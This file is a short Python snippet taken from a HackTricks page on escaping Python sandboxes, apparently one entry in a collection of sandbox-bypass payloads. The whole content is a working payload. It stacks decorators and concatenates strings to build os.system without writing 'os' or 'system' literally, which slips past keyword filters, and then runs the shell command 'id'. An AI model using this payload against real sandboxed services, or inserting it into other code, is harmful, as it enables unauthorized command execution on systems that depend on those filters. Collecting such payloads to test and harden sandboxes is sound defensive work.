# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (RCE with decorators)
# Family: decorator
# What: arbitrary decorator expressions (3.9+): getattr(os, 'system') applied to what a lambda returns
@getattr(__import__("o" + "s"), "sys" + "tem")
@(lambda _: "id")
def _():
    pass
